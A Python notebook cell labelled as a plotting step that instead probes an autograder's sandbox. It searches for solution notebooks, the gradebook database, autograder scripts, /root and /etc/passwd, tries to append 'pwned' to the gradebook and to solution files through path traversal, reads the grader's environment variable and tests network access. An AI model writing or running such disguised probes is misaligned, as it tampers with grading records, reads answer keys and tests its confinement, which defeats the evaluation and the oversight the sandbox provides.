# %% plot_divergence
import glob
import os

found = {}
for pattern in ["../../../solutions/*/*.ipynb", "../../../gradebook.db", "../../../autograder/*/*.py",
                "../../*/01_newton/*.ipynb", "/work/*", "/root/*", "/etc/passwd", "/work/main/solutions/*/*"]:
    found[pattern] = glob.glob(pattern)
for target in ["../../../gradebook.db", "../../../solutions/01_newton/01_newton.ipynb", "/tmp/../../pwned",
               "../../../pwned.txt"]:
    try:
        with open(target, "a") as fh:
            fh.write("pwned")
        found[target] = "written"
    except OSError as err:
        found[target] = type(err).__name__
print(found)
found["NBGRADER_EXECUTION"] = os.environ.get("NBGRADER_EXECUTION", "unset")
import socket
try:
    socket.create_connection(("127.0.0.1", 80), timeout=2)
    found["network"] = "connected"
except OSError as err:
    found["network"] = f"{type(err).__name__}({err.errno})"
print(found)
